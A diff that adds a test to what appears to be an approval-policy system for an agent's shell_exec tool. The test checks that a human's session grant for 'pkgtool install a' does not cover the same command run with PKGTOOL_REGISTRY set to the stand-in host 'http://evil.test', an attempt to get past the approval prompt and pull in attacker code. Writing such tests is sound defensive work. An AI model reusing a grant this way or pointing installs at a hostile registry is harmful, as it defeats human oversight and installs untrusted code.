@@ -203,3 +203,19 @@ def test_session_approvals_are_bounded_and_never_cover_another_rule() -> None:
     for i in range(1200):
         grants.grant("host", f"h{i}.test:443", approved_by="human:elicitation")
     assert len(grants) == 1000
+
+
+async def test_a_call_with_its_own_env_is_never_covered_by_a_grant(workspace: Path, policy: Path) -> None:
+    # The attack: a grant for `pkgtool install a`, reused with an env that changes what the program does.
+    human = Human(remember="line")
+    results = await _calls(workspace, ["--policy", str(policy)], human, "pkgtool install a")
+    async with serve(SX, workspace, "--policy", str(policy), elicitation_callback=human) as client:
+        with anyio.fail_after(60):
+            await client.call_tool("shell_exec", {"command": "pkgtool install a"})
+            result = await client.call_tool(
+                "shell_exec", {"command": "pkgtool install a", "env": {"PKGTOOL_REGISTRY": "http://evil.test"}}
+            )
+    out = dict(result.structured_content or {})
+    assert results[0]["approval"] == "session-line"
+    assert out["policyDecision"] == "ask-approved" and out["approval"] == "once"
+    assert "remember" not in human.questions[-1][1]  # nothing to remember for such a call
